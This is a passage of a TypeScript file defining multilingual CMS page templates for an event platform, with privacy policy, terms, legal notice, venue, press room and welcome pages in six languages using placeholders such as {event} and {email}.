/**
 * CMS pages (GET /cms/pages/{slug}). Templates per language; `{event}`, `{org}`, `{email}`,
 * `{dates}` and the generated blocks (`{venues}`, `{committees}`, `{topics}`, `{editions}`) are
 * filled in per tenant by seed/content.ts.
 */
import type { L } from './i18n';

export interface PageTemplate {
  title: L;
  description: L;
  content: L;
}

export const PAGES: Record<string, PageTemplate> = {
  'politica-de-privacidad': {
    title: { es: 'Política de privacidad', en: 'Privacy policy', pt: 'Política de privacidade', eus: 'Pribatutasun-politika', fr: 'Politique de confidentialité', el: 'Πολιτική απορρήτου' },
    description: { es: 'Cómo tratamos tus datos personales en {event}.', en: 'How we process your personal data at {event}.', pt: 'Como tratamos seus dados pessoais no {event}.', eus: 'Nola tratatzen ditugun zure datu pertsonalak {event} ekitaldian.', fr: 'Comment nous traitons vos données personnelles dans le cadre de {event}.', el: 'Πώς επεξεργαζόμαστε τα προσωπικά σας δεδομένα στο {event}.' },
    content: {
      es: '<h2>Responsable del tratamiento</h2><p>{org} es responsable de los datos personales que nos facilitas al registrarte en {event}. Puedes escribirnos a <a href="mailto:{email}">{email}</a>.</p><h2>Para qué usamos tus datos</h2><ul><li>Gestionar tu inscripción, tus entradas y tu acreditación.</li><li>Enviarte información práctica sobre el evento.</li><li>Facilitar el networking entre asistentes, solo si lo activas.</li></ul><h2>Conservación y derechos</h2><p>Conservamos tus datos mientras dure tu relación con el evento y durante los plazos que exige la ley. Puedes ejercer tus derechos de acceso, rectificación, supresión, oposición, limitación y portabilidad escribiendo a la dirección anterior.</p>',
      en: '<h2>Data controller</h2><p>{org} is responsible for the personal data you give us when you register for {event}. You can write to us at <a href="mailto:{email}">{email}</a>.</p><h2>What we use your data for</h2><ul><li>Managing your registration, tickets and badge.</li><li>Sending you practical information about the event.</li><li>Enabling networking between attendees, only if you switch it on.</li></ul><h2>Retention and your rights</h2><p>We keep your data for as long as you take part in the event and for the periods required by law. You may exercise your rights of access, rectification, erasure, objection, restriction and portability by writing to the address above.</p>',
      pt: '<h2>Controlador dos dados</h2><p>{org} é responsável pelos dados pessoais que você nos fornece ao se inscrever no {event}. Você pode nos escrever em <a href="mailto:{email}">{email}</a>.</p><h2>Para que usamos seus dados</h2><ul><li>Gerenciar sua inscrição, seus ingressos e sua credencial.</li><li>Enviar informações práticas sobre o evento.</li><li>Facilitar o networking entre participantes, somente se você ativá-lo.</li></ul><h2>Conservação e direitos</h2><p>Conservamos seus dados enquanto durar sua relação com o evento e pelos prazos exigidos por lei. Você pode exercer seus direitos de acesso, retificação, exclusão, oposição, limitação e portabilidade escrevendo para o endereço acima.</p>',
      eus: '<h2>Tratamenduaren arduraduna</h2><p>{org} da {event} ekitaldian izena ematean ematen dizkiguzun datu pertsonalen arduraduna. Idatzi iezaguzu helbide honetara: <a href="mailto:{email}">{email}</a>.</p><h2>Zertarako erabiltzen ditugun zure datuak</h2><ul><li>Zure izen-ematea, sarrerak eta akreditazioa kudeatzeko.</li><li>Ekitaldiari buruzko informazio praktikoa bidaltzeko.</li><li>Bertaratuen arteko networkinga errazteko, zuk aktibatzen baduzu bakarrik.</li></ul><h2>Kontserbazioa eta eskubideak</h2><p>Ekitaldiarekin harremana duzun bitartean eta legeak eskatzen dituen epeetan gordeko ditugu zure datuak. Sarbide-, zuzenketa-, ezabaketa-, aurkaratze-, mugatze- eta eramangarritasun-eskubideak erabil ditzakezu aurreko helbidera idatzita.</p>',
      fr: '<h2>Responsable du traitement</h2><p>{org} est responsable des données personnelles que vous nous communiquez lors de votre inscription à {event}. Vous pouvez nous écrire à <a href="mailto:{email}">{email}</a>.</p><h2>À quoi servent vos données</h2><ul><li>Gérer votre inscription, vos billets et votre badge.</li><li>Vous envoyer des informations pratiques sur l’événement.</li><li>Faciliter le networking entre participants, uniquement si vous l’activez.</li></ul><h2>Conservation et droits</h2><p>Nous conservons vos données pendant toute la durée de votre participation et pendant les délais prévus par la loi. Vous pouvez exercer vos droits d’accès, de rectification, d’effacement, d’opposition, de limitation et de portabilité en écrivant à l’adresse ci-dessus.</p>',
      el: '<h2>Υπεύθυνος επεξεργασίας</h2><p>Ο φορέας {org} είναι υπεύθυνος για τα προσωπικά δεδομένα που μας δίνετε κατά την εγγραφή σας στο {event}. Μπορείτε να μας γράψετε στο <a href="mailto:{email}">{email}</a>.</p><h2>Για ποιο σκοπό χρησιμοποιούμε τα δεδομένα σας</h2><ul><li>Για τη διαχείριση της εγγραφής, των εισιτηρίων και της κονκάρδας σας.</li><li>Για την αποστολή πρακτικών πληροφοριών σχετικά με την εκδήλωση.</li><li>Για τη διευκόλυνση της δικτύωσης μεταξύ συμμετεχόντων, μόνο εφόσον την ενεργοποιήσετε.</li></ul><h2>Διατήρηση και δικαιώματα</h2><p>Διατηρούμε τα δεδομένα σας όσο διαρκεί η συμμετοχή σας στην εκδήλωση και για τα διαστήματα που ορίζει ο νόμος. Μπορείτε να ασκήσετε τα δικαιώματα πρόσβασης, διόρθωσης, διαγραφής, εναντίωσης, περιορισμού και φορητότητας γράφοντας στην παραπάνω διεύθυνση.</p>',
    },
  },
  condiciones: {
    title: { es: 'Condiciones de uso', en: 'Terms and conditions', pt: 'Termos e condições', eus: 'Erabilera-baldintzak', fr: 'Conditions générales', el: 'Όροι χρήσης' },
    description: { es: 'Condiciones generales de inscripción y de uso de la plataforma.', en: 'General terms of registration and use of the platform.', pt: 'Condições gerais de inscrição e de uso da plataforma.', eus: 'Izen-ematearen eta plataformaren erabileraren baldintza orokorrak.', fr: 'Conditions générales d’inscription et d’utilisation de la plateforme.', el: 'Γενικοί όροι εγγραφής και χρήσης της πλατφόρμας.' },
    content: {
      es: '<h2>Inscripción</h2><p>La inscripción es personal e intransferible. La organización puede pedir un documento de identidad para acceder a la sede.</p><h2>Entradas y cancelaciones</h2><ul><li>Los precios se muestran en euros e incluyen los impuestos.</li><li>Puedes cancelar tu entrada hasta siete días antes del evento.</li><li>El aforo de cada sesión es limitado y se asigna por orden de inscripción.</li></ul><h2>Uso de la plataforma</h2><p>Te comprometes a hacer un uso respetuoso del chat, las preguntas y el networking. La organización puede retirar los contenidos inapropiados.</p>',
      en: '<h2>Registration</h2><p>Registration is personal and non-transferable. The organisers may ask for an identity document to enter the venue.</p><h2>Tickets and cancellations</h2><ul><li>Prices are shown in euros and include taxes.</li><li>You can cancel your ticket up to seven days before the event.</li><li>Each session has limited capacity, allocated in order of registration.</li></ul><h2>Use of the platform</h2><p>You agree to use the chat, questions and networking respectfully. The organisers may remove inappropriate content.</p>',
      pt: '<h2>Inscrição</h2><p>A inscrição é pessoal e intransferível. A organização pode solicitar um documento de identidade para o acesso ao local.</p><h2>Ingressos e cancelamentos</h2><ul><li>Os preços são exibidos em euros e incluem impostos.</li><li>Você pode cancelar seu ingresso até sete dias antes do evento.</li><li>As vagas de cada sessão são limitadas e atribuídas por ordem de inscrição.</li></ul><h2>Uso da plataforma</h2><p>Você se compromete a usar o chat, as perguntas e o networking com respeito. A organização pode remover conteúdos inadequados.</p>',
      eus: '<h2>Izen-ematea</h2><p>Izen-ematea pertsonala eta besterenezina da. Antolatzaileek nortasun-agiria eska dezakete egoitzara sartzeko.</p><h2>Sarrerak eta ezeztapenak</h2><ul><li>Prezioak eurotan adierazten dira, eta zergak barne daude.</li><li>Ekitaldia baino zazpi egun lehenago arte ezezta dezakezu sarrera.</li><li>Saio bakoitzaren edukiera mugatua da, eta izena emandako ordenaren arabera esleitzen da.</li></ul><h2>Plataformaren erabilera</h2><p>Txata, galderak eta networkinga errespetuz erabiltzeko konpromisoa hartzen duzu. Antolatzaileek eduki desegokiak ken ditzakete.</p>',
      fr: '<h2>Inscription</h2><p>L’inscription est personnelle et incessible. L’organisation peut demander une pièce d’identité pour accéder au lieu.</p><h2>Billets et annulations</h2><ul><li>Les prix sont indiqués en euros, taxes comprises.</li><li>Vous pouvez annuler votre billet jusqu’à sept jours avant l’événement.</li><li>Chaque session a une capacité limitée, attribuée par ordre d’inscription.</li></ul><h2>Utilisation de la plateforme</h2><p>Vous vous engagez à utiliser le chat, les questions et le networking avec respect. L’organisation peut retirer les contenus inappropriés.</p>',
      el: '<h2>Εγγραφή</h2><p>Η εγγραφή είναι προσωπική και δεν μεταβιβάζεται. Η οργάνωση μπορεί να ζητήσει έγγραφο ταυτότητας για την είσοδο στον χώρο.</p><h2>Εισιτήρια και ακυρώσεις</h2><ul><li>Οι τιμές εμφανίζονται σε ευρώ και περιλαμβάνουν φόρους.</li><li>Μπορείτε να ακυρώσετε το εισιτήριό σας έως επτά ημέρες πριν από την εκδήλωση.</li><li>Οι θέσεις κάθε συνεδρίας είναι περιορισμένες και διατίθενται με σειρά εγγραφής.</li></ul><h2>Χρήση της πλατφόρμας</h2><p>Δεσμεύεστε να χρησιμοποιείτε τη συνομιλία, τις ερωτήσεις και τη δικτύωση με σεβασμό. Η οργάνωση μπορεί να αφαιρεί ακατάλληλο περιεχόμενο.</p>',
    },
  },
  'aviso-legal': {
    title: { es: 'Aviso legal', en: 'Legal notice', pt: 'Aviso legal', eus: 'Lege-oharra', fr: 'Mentions légales', el: 'Νομική σημείωση' },
    description: { es: 'Información legal sobre el titular de este sitio web.', en: 'Legal information about the owner of this website.', pt: 'Informações legais sobre o titular deste site.', eus: 'Webgune honen titularrari buruzko lege-informazioa.', fr: 'Informations légales sur l’éditeur de ce site.', el: 'Νομικές πληροφορίες για τον κάτοχο αυτού του ιστότοπου.' },
    content: {
      es: '<h2>Titular</h2><p>Este sitio web pertenece a {org}. Correo electrónico de contacto: <a href="mailto:{email}">{email}</a>.</p><h2>Propiedad intelectual</h2><p>Los textos, imágenes y logotipos de este sitio están protegidos. No se permite su reproducción sin autorización previa.</p><h2>Responsabilidad</h2><p>La organización no se hace responsable del contenido de los sitios externos enlazados desde este portal.</p>',
      en: '<h2>Owner</h2><p>This website belongs to {org}. Contact email: <a href="mailto:{email}">{email}</a>.</p><h2>Intellectual property</h2><p>The texts, images and logos on this site are protected. They may not be reproduced without prior permission.</p><h2>Liability</h2><p>The organisers are not responsible for the content of external sites linked from this portal.</p>',
      pt: '<h2>Titular</h2><p>Este site pertence a {org}. E-mail de contato: <a href="mailto:{email}">{email}</a>.</p><h2>Propriedade intelectual</h2><p>Os textos, imagens e logotipos deste site são protegidos. Não é permitida sua reprodução sem autorização prévia.</p><h2>Responsabilidade</h2><p>A organização não se responsabiliza pelo conteúdo dos sites externos vinculados a este portal.</p>',
      eus: '<h2>Titularra</h2><p>Webgune hau {org} erakundearena da. Harremanetarako helbide elektronikoa: <a href="mailto:{email}">{email}</a>.</p><h2>Jabetza intelektuala</h2><p>Webgune honetako testuak, irudiak eta logotipoak babestuta daude. Ezin dira erreproduzitu aldez aurreko baimenik gabe.</p><h2>Erantzukizuna</h2><p>Antolatzaileek ez dute erantzukizunik atari honetatik estekatutako kanpoko webguneen edukiaren gainean.</p>',
      fr: '<h2>Éditeur</h2><p>Ce site appartient à {org}. Adresse de contact : <a href="mailto:{email}">{email}</a>.</p><h2>Propriété intellectuelle</h2><p>Les textes, images et logos de ce site sont protégés. Toute reproduction sans autorisation préalable est interdite.</p><h2>Responsabilité</h2><p>L’organisation n’est pas responsable du contenu des sites externes liés depuis ce portail.</p>',
      el: '<h2>Κάτοχος</h2><p>Ο ιστότοπος ανήκει στον φορέα {org}. Email επικοινωνίας: <a href="mailto:{email}">{email}</a>.</p><h2>Πνευματική ιδιοκτησία</h2><p>Τα κείμενα, οι εικόνες και τα λογότυπα του ιστότοπου προστατεύονται. Απαγορεύεται η αναπαραγωγή τους χωρίς προηγούμενη άδεια.</p><h2>Ευθύνη</h2><p>Η οργάνωση δεν ευθύνεται για το περιεχόμενο εξωτερικών ιστότοπων στους οποίους παραπέμπει η πύλη.</p>',
    },
  },
  'politica-de-cookies': {
    title: { es: 'Política de cookies', en: 'Cookie policy', pt: 'Política de cookies', eus: 'Cookie-en politika', fr: 'Politique relative aux cookies', el: 'Πολιτική cookies' },
    description: { es: 'Qué cookies usamos, para qué y durante cuánto tiempo.', en: 'Which cookies we use, why and for how long.', pt: 'Quais cookies usamos, para quê e por quanto tempo.', eus: 'Zer cookie erabiltzen ditugun, zertarako eta zenbat denboraz.', fr: 'Quels cookies nous utilisons, pourquoi et pour combien de temps.', el: 'Ποια cookies χρησιμοποιούμε, για ποιο σκοπό και για πόσο διάστημα.' },
    content: {
      es: '<p>Este sitio usa cookies propias y de terceros. Puedes cambiar tu elección en cualquier momento desde la configuración de cookies.</p>{cookies}',
      en: '<p>This site uses its own and third-party cookies. You can change your choice at any time from the cookie settings.</p>{cookies}',
      pt: '<p>Este site usa cookies próprios e de terceiros. Você pode alterar sua escolha a qualquer momento nas configurações de cookies.</p>{cookies}',
      eus: '<p>Webgune honek cookie propioak eta hirugarrenenak erabiltzen ditu. Zure aukera edozein unetan alda dezakezu cookie-en ezarpenetan.</p>{cookies}',
      fr: '<p>Ce site utilise des cookies propres et tiers. Vous pouvez modifier votre choix à tout moment depuis les paramètres des cookies.</p>{cookies}',
      el: '<p>Ο ιστότοπος χρησιμοποιεί δικά του cookies και cookies τρίτων. Μπορείτε να αλλάξετε την επιλογή σας οποιαδήποτε στιγμή από τις ρυθμίσεις cookies.</p>{cookies}',
    },
  },
  comites: {
    title: { es: 'Comités', en: 'Committees', pt: 'Comitês', eus: 'Batzordeak', fr: 'Comités', el: 'Επιτροπές' },
    description: { es: 'Las personas que hacen posible {event}.', en: 'The people who make {event} possible.', pt: 'As pessoas que tornam o {event} possível.', eus: '{event} posible egiten duten pertsonak.', fr: 'Les personnes qui rendent {event} possible.', el: 'Οι άνθρωποι που κάνουν το {event} πραγματικότητα.' },
    content: {
      es: '<p>El programa se elabora con la ayuda de dos comités que revisan las propuestas y velan por la calidad y la diversidad de las sesiones.</p>{committees}',
      en: '<p>The programme is built with two committees that review proposals and look after the quality and diversity of the sessions.</p>{committees}',
      pt: '<p>A programação é elaborada com a ajuda de dois comitês que avaliam as propostas e zelam pela qualidade e diversidade das sessões.</p>{committees}',
      eus: '<p>Egitaraua bi batzorderen laguntzaz prestatzen da: proposamenak aztertzen dituzte eta saioen kalitatea eta aniztasuna zaintzen dituzte.</p>{committees}',
      fr: '<p>Le programme est construit avec deux comités qui examinent les propositions et veillent à la qualité et à la diversité des sessions.</p>{committees}',
      el: '<p>Το πρόγραμμα διαμορφώνεται με τη βοήθεια δύο επιτροπών που αξιολογούν τις προτάσεις και φροντίζουν για την ποιότητα και την ποικιλία των συνεδριών.</p>{committees}',
    },
  },
  'sala-de-prensa': {
    title: { es: 'Sala de prensa', en: 'Press room', pt: 'Sala de imprensa', eus: 'Prentsa-aretoa', fr: 'Espace presse', el: 'Γραφείο Τύπου' },
    description: { es: 'Recursos y contacto para medios de comunicación.', en: 'Resources and contact details for the media.', pt: 'Recursos e contato para a imprensa.', eus: 'Komunikabideentzako baliabideak eta harremanetarako datuak.', fr: 'Ressources et contact pour les médias.', el: 'Υλικό και στοιχεία επικοινωνίας για τα μέσα ενημέρωσης.' },
    content: {
      es: '<p>Periodistas y medios pueden solicitar su acreditación de prensa hasta 48 horas antes del evento.</p><h2>Recursos</h2><ul><li>Dossier de prensa (PDF)</li><li>Logotipos en alta resolución</li><li>Fotografías de ediciones anteriores</li></ul><h2>Contacto de prensa</h2><p><a href="mailto:{email}">{email}</a></p>',
      en: '<p>Journalists and media can apply for press accreditation up to 48 hours before the event.</p><h2>Resources</h2><ul><li>Press kit (PDF)</li><li>High-resolution logos</li><li>Photos from previous editions</li></ul><h2>Press contact</h2><p><a href="mailto:{email}">{email}</a></p>',
      pt: '<p>Jornalistas e veículos de imprensa podem solicitar credenciamento até 48 horas antes do evento.</p><h2>Recursos</h2><ul><li>Kit de imprensa (PDF)</li><li>Logotipos em alta resolução</li><li>Fotos de edições anteriores</li></ul><h2>Contato de imprensa</h2><p><a href="mailto:{email}">{email}</a></p>',
      eus: '<p>Kazetariek eta komunikabideek prentsa-akreditazioa eska dezakete ekitaldia baino 48 ordu lehenago arte.</p><h2>Baliabideak</h2><ul><li>Prentsa-dosierra (PDF)</li><li>Bereizmen handiko logotipoak</li><li>Aurreko edizioetako argazkiak</li></ul><h2>Prentsa-harremanak</h2><p><a href="mailto:{email}">{email}</a></p>',
      fr: '<p>Les journalistes et les médias peuvent demander une accréditation presse jusqu’à 48 heures avant l’événement.</p><h2>Ressources</h2><ul><li>Dossier de presse (PDF)</li><li>Logos en haute résolution</li><li>Photos des éditions précédentes</li></ul><h2>Contact presse</h2><p><a href="mailto:{email}">{email}</a></p>',
      el: '<p>Δημοσιογράφοι και μέσα ενημέρωσης μπορούν να ζητήσουν διαπίστευση Τύπου έως 48 ώρες πριν από την εκδήλωση.</p><h2>Υλικό</h2><ul><li>Φάκελος Τύπου (PDF)</li><li>Λογότυπα υψηλής ανάλυσης</li><li>Φωτογραφίες από προηγούμενες διοργανώσεις</li></ul><h2>Επικοινωνία Τύπου</h2><p><a href="mailto:{email}">{email}</a></p>',
    },
  },
  'descarga-app': {
    title: { es: 'Descarga la app', en: 'Get the app', pt: 'Baixe o aplicativo', eus: 'Deskargatu aplikazioa', fr: 'Télécharger l’application', el: 'Κατεβάστε την εφαρμογή' },
    description: { es: 'La agenda y tu acreditación, siempre en el móvil.', en: 'The agenda and your badge, always on your phone.', pt: 'A agenda e sua credencial, sempre no celular.', eus: 'Agenda eta akreditazioa, beti mugikorrean.', fr: 'Le programme et votre badge, toujours dans votre téléphone.', el: 'Το πρόγραμμα και η κονκάρδα σας, πάντα στο κινητό.' },
    content: {
      es: '<p>Con la app oficial de {event} tendrás la agenda, tu acreditación y el networking a mano, incluso sin conexión.</p><ul><li>Agenda personal con avisos</li><li>Acreditación con código QR</li><li>Mensajes con otros asistentes</li></ul><p>Disponible para iOS y Android.</p>',
      en: '<p>With the official {event} app you have the agenda, your badge and networking at hand, even offline.</p><ul><li>Personal agenda with reminders</li><li>Badge with QR code</li><li>Messages with other attendees</li></ul><p>Available for iOS and Android.</p>',
      pt: '<p>Com o aplicativo oficial do {event} você tem a agenda, sua credencial e o networking à mão, mesmo sem conexão.</p><ul><li>Agenda pessoal com lembretes</li><li>Credencial com QR code</li><li>Mensagens com outros participantes</li></ul><p>Disponível para iOS e Android.</p>',
      eus: '<p>{event} ekitaldiaren aplikazio ofizialarekin agenda, akreditazioa eta networkinga eskura izango dituzu, konexiorik gabe ere.</p><ul><li>Agenda pertsonala, oharrekin</li><li>Akreditazioa QR kodearekin</li><li>Mezuak beste bertaratu batzuekin</li></ul><p>iOS eta Androiderako eskuragarri.</p>',
      fr: '<p>Avec l’application officielle de {event}, vous avez le programme, votre badge et le networking sous la main, même hors connexion.</p><ul><li>Agenda personnel avec rappels</li><li>Badge avec code QR</li><li>Messagerie entre participants</li></ul><p>Disponible sur iOS et Android.</p>',
      el: '<p>Με την επίσημη εφαρμογή του {event} έχετε το πρόγραμμα, την κονκάρδα σας και τη δικτύωση πάντα διαθέσιμα, ακόμη και χωρίς σύνδεση.</p><ul><li>Προσωπικό πρόγραμμα με υπενθυμίσεις</li><li>Κονκάρδα με κωδικό QR</li><li>Μηνύματα με άλλους συμμετέχοντες</li></ul><p>Διαθέσιμη για iOS και Android.</p>',
    },
  },
  informacion: {
    title: { es: 'Información práctica', en: 'Practical information', pt: 'Informações práticas', eus: 'Informazio praktikoa', fr: 'Informations pratiques', el: 'Πρακτικές πληροφορίες' },
    description: { es: 'Todo lo que necesitas saber antes de venir.', en: 'Everything you need to know before you come.', pt: 'Tudo o que você precisa saber antes de vir.', eus: 'Etorri aurretik jakin behar duzun guztia.', fr: 'Tout ce qu’il faut savoir avant de venir.', el: 'Όλα όσα πρέπει να γνωρίζετε πριν έρθετε.' },
    content: {
      es: '<h2>Fechas</h2><p>{dates}</p><h2>Sede</h2><ul>{venues}</ul><h2>Acreditación</h2><p>Recoge tu acreditación en el mostrador de entrada mostrando el código QR de tu área privada.</p><h2>Accesibilidad</h2><p>Todas las salas son accesibles. Si necesitas asistencia, escríbenos a <a href="mailto:{email}">{email}</a>.</p>',
      en: '<h2>Dates</h2><p>{dates}</p><h2>Venue</h2><ul>{venues}</ul><h2>Badge</h2><p>Pick up your badge at the entrance desk by showing the QR code from your private area.</p><h2>Accessibility</h2><p>All rooms are accessible. If you need assistance, write to us at <a href="mailto:{email}">{email}</a>.</p>',
      pt: '<h2>Datas</h2><p>{dates}</p><h2>Local</h2><ul>{venues}</ul><h2>Credencial</h2><p>Retire sua credencial no balcão de entrada mostrando o QR code da sua área privada.</p><h2>Acessibilidade</h2><p>Todas as salas são acessíveis. Se precisar de assistência, escreva para <a href="mailto:{email}">{email}</a>.</p>',
      eus: '<h2>Datak</h2><p>{dates}</p><h2>Egoitza</h2><ul>{venues}</ul><h2>Akreditazioa</h2><p>Jaso zure akreditazioa sarrerako mahaian, zure eremu pribatuko QR kodea erakutsita.</p><h2>Irisgarritasuna</h2><p>Gela guztiak irisgarriak dira. Laguntza behar baduzu, idatzi helbide honetara: <a href="mailto:{email}">{email}</a>.</p>',
      fr: '<h2>Dates</h2><p>{dates}</p><h2>Lieu</h2><ul>{venues}</ul><h2>Badge</h2><p>Retirez votre badge à l’accueil en présentant le code QR de votre espace privé.</p><h2>Accessibilité</h2><p>Toutes les salles sont accessibles. Si vous avez besoin d’assistance, écrivez-nous à <a href="mailto:{email}">{email}</a>.</p>',
      el: '<h2>Ημερομηνίες</h2><p>{dates}</p><h2>Χώρος</h2><ul>{venues}</ul><h2>Κονκάρδα</h2><p>Παραλάβετε την κονκάρδα σας στην υποδοχή δείχνοντας τον κωδικό QR της προσωπικής σας περιοχής.</p><h2>Προσβασιμότητα</h2><p>Όλες οι αίθουσες είναι προσβάσιμες. Αν χρειάζεστε βοήθεια, γράψτε μας στο <a href="mailto:{email}">{email}</a>.</p>',
    },
  },
  tematicas: {
    title: { es: 'Temáticas', en: 'Themes', pt: 'Temáticas', eus: 'Gaiak', fr: 'Thématiques', el: 'Θεματικές' },
    description: { es: 'Los ejes que vertebran el programa.', en: 'The axes that shape the programme.', pt: 'Os eixos que estruturam a programação.', eus: 'Egitaraua egituratzen duten ardatzak.', fr: 'Les axes qui structurent le programme.', el: 'Οι άξονες που διαμορφώνουν το πρόγραμμα.' },
    content: {
      es: '<p>El programa se organiza en estos ejes temáticos:</p>{topics}',
      en: '<p>The programme is organised around these themes:</p>{topics}',
      pt: '<p>A programação se organiza nestes eixos temáticos:</p>{topics}',
      eus: '<p>Egitaraua ardatz tematiko hauen inguruan antolatzen da:</p>{topics}',
      fr: '<p>Le programme s’articule autour de ces axes thématiques :</p>{topics}',
      el: '<p>Το πρόγραμμα οργανώνεται γύρω από τους εξής θεματικούς άξονες:</p>{topics}',
    },
  },
  sede: {
    title: { es: 'Sede', en: 'Venue', pt: 'Local', eus: 'Egoitza', fr: 'Lieu', el: 'Χώρος' },
    description: { es: 'Dónde se celebra {event} y cómo llegar.', en: 'Where {event} takes place and how to get there.', pt: 'Onde acontece o {event} e como chegar.', eus: 'Non egiten den {event} eta nola iritsi.', fr: 'Où se déroule {event} et comment s’y rendre.', el: 'Πού πραγματοποιείται το {event} και πώς θα φτάσετε.' },
    content: {
      es: '<p>{event} se celebra en:</p><ul>{venues}</ul><h2>Cómo llegar</h2><ul><li>Transporte público: parada a menos de cinco minutos a pie.</li><li>Aparcamiento público junto al edificio.</li><li>Aparcabicis en la entrada principal.</li></ul>',
      en: '<p>{event} takes place at:</p><ul>{venues}</ul><h2>Getting there</h2><ul><li>Public transport: a stop less than five minutes’ walk away.</li><li>Public car park next to the building.</li><li>Bike racks at the main entrance.</li></ul>',
      pt: '<p>O {event} acontece em:</p><ul>{venues}</ul><h2>Como chegar</h2><ul><li>Transporte público: parada a menos de cinco minutos a pé.</li><li>Estacionamento público ao lado do prédio.</li><li>Bicicletário na entrada principal.</li></ul>',
      eus: '<p>{event} ekitaldia hemen egingo da:</p><ul>{venues}</ul><h2>Nola iritsi</h2><ul><li>Garraio publikoa: geltokia bost minutu baino gutxiagora oinez.</li><li>Aparkaleku publikoa eraikinaren ondoan.</li><li>Bizikletentzako aparkalekua sarrera nagusian.</li></ul>',
      fr: '<p>{event} se déroule à :</p><ul>{venues}</ul><h2>Comment venir</h2><ul><li>Transports en commun : arrêt à moins de cinq minutes à pied.</li><li>Parking public à côté du bâtiment.</li><li>Arceaux à vélos à l’entrée principale.</li></ul>',
      el: '<p>Χώροι διεξαγωγής του {event}:</p><ul>{venues}</ul><h2>Πώς θα φτάσετε</h2><ul><li>Μέσα μαζικής μεταφοράς: στάση σε λιγότερο από πέντε λεπτά με τα πόδια.</li><li>Δημόσιος χώρος στάθμευσης δίπλα στο κτίριο.</li><li>Θέσεις για ποδήλατα στην κύρια είσοδο.</li></ul>',
    },
  },
  'ediciones-anteriores': {
    title: { es: 'Ediciones anteriores', en: 'Previous editions', pt: 'Edições anteriores', eus: 'Aurreko edizioak', fr: 'Éditions précédentes', el: 'Προηγούμενες διοργανώσεις' },
    description: { es: 'Un repaso a las ediciones pasadas de {event}.', en: 'A look back at previous editions of {event}.', pt: 'Um olhar sobre as edições anteriores do {event}.', eus: '{event} ekitaldiaren aurreko edizioei begirada bat.', fr: 'Retour sur les éditions précédentes de {event}.', el: 'Μια ματιά στις προηγούμενες διοργανώσεις του {event}.' },
    content: {
      es: '<p>Cada edición ha reunido a más profesionales y más voces diversas.</p><ul>{editions}</ul><p>Consulta las <a href="/actividades-pasadas">actividades pasadas</a>.</p>',
      en: '<p>Each edition has brought together more professionals and more diverse voices.</p><ul>{editions}</ul><p>Browse the <a href="/actividades-pasadas">past activities</a>.</p>',
      pt: '<p>Cada edição reuniu mais profissionais e vozes mais diversas.</p><ul>{editions}</ul><p>Veja as <a href="/actividades-pasadas">atividades anteriores</a>.</p>',
      eus: '<p>Edizio bakoitzak profesional gehiago eta ahots anitzagoak bildu ditu.</p><ul>{editions}</ul><p>Kontsultatu <a href="/actividades-pasadas">iraganeko jarduerak</a>.</p>',
      fr: '<p>Chaque édition a réuni davantage de professionnels et des voix plus diverses.</p><ul>{editions}</ul><p>Consultez les <a href="/actividades-pasadas">activités passées</a>.</p>',
      el: '<p>Κάθε διοργάνωση έφερε κοντά περισσότερους επαγγελματίες και πιο ποικίλες φωνές.</p><ul>{editions}</ul><p>Δείτε τις <a href="/actividades-pasadas">προηγούμενες δραστηριότητες</a>.</p>',
    },
  },
  bienvenido: {
    title: { es: 'Te damos la bienvenida', en: 'Welcome', pt: 'Boas-vindas', eus: 'Ongi etorri', fr: 'Bienvenue', el: 'Καλώς ήρθατε' },
    description: { es: 'Tu cuenta ya está activa.', en: 'Your account is now active.', pt: 'Sua conta já está ativa.', eus: 'Zure kontua aktibo dago.', fr: 'Votre compte est activé.', el: 'Ο λογαριασμός σας ενεργοποιήθηκε.' },
    content: {
      es: '<p>Gracias por registrarte en {event}. Ya puedes consultar la agenda, inscribirte en las actividades y descargar tu acreditación desde tu área privada.</p><p><strong>Fechas:</strong> {dates}</p><p><a href="/agenda">Ver la agenda</a></p>',
      en: '<p>Thank you for signing up for {event}. You can now browse the agenda, register for activities and download your badge from your private area.</p><p><strong>Dates:</strong> {dates}</p><p><a href="/agenda">See the agenda</a></p>',
      pt: '<p>Obrigado por se cadastrar no {event}. Agora você já pode consultar a agenda, se inscrever nas atividades e baixar sua credencial na área privada.</p><p><strong>Datas:</strong> {dates}</p><p><a href="/agenda">Ver a agenda</a></p>',
      eus: '<p>Eskerrik asko {event} ekitaldian izena emateagatik. Orain agenda kontsulta dezakezu, jardueretan izena eman eta akreditazioa deskargatu zure eremu pribatutik.</p><p><strong>Datak:</strong> {dates}</p><p><a href="/agenda">Ikusi agenda</a></p>',
      fr: '<p>Merci de votre inscription à {event}. Vous pouvez désormais consulter le programme, vous inscrire aux activités et télécharger votre badge depuis votre espace privé.</p><p><strong>Dates :</strong> {dates}</p><p><a href="/agenda">Voir le programme</a></p>',
      el: '<p>Σας ευχαριστούμε για την εγγραφή σας στο {event}. Μπορείτε πλέον να δείτε το πρόγραμμα, να εγγραφείτε σε δραστηριότητες και να κατεβάσετε την κονκάρδα σας από την προσωπική σας περιοχή.</p><p><strong>Ημερομηνίες:</strong> {dates}</p><p><a href="/agenda">Δείτε το πρόγραμμα</a></p>',
    },
  },
  gracias: {
    title: { es: '¡Gracias!', en: 'Thank you!', pt: 'Obrigado!', eus: 'Eskerrik asko!', fr: 'Merci !', el: 'Ευχαριστούμε!' },
    description: { es: 'Tu inscripción se ha completado.', en: 'Your registration is complete.', pt: 'Sua inscrição foi concluída.', eus: 'Zure izen-ematea osatu da.', fr: 'Votre inscription est confirmée.', el: 'Η εγγραφή σας ολοκληρώθηκε.' },
    content: {
      es: '<p>Hemos recibido tu inscripción en {event}. Te hemos enviado un correo de confirmación con todos los detalles.</p><p><strong>Fechas:</strong> {dates}</p><p>Añade el evento a tu calendario para no perdértelo.</p>',
      en: '<p>We have received your registration for {event}. We have sent you a confirmation email with all the details.</p><p><strong>Dates:</strong> {dates}</p><p>Add the event to your calendar so you don’t miss it.</p>',
      pt: '<p>Recebemos sua inscrição no {event}. Enviamos um e-mail de confirmação com todos os detalhes.</p><p><strong>Datas:</strong> {dates}</p><p>Adicione o evento à sua agenda para não perdê-lo.</p>',
      eus: '<p>{event} ekitaldirako zure izen-ematea jaso dugu. Xehetasun guztiak dituen berrespen-mezu bat bidali dizugu.</p><p><strong>Datak:</strong> {dates}</p><p>Gehitu ekitaldia zure egutegira, ez galtzeko.</p>',
      fr: '<p>Nous avons bien reçu votre inscription à {event}. Un e-mail de confirmation avec tous les détails vous a été envoyé.</p><p><strong>Dates :</strong> {dates}</p><p>Ajoutez l’événement à votre agenda pour ne pas le manquer.</p>',
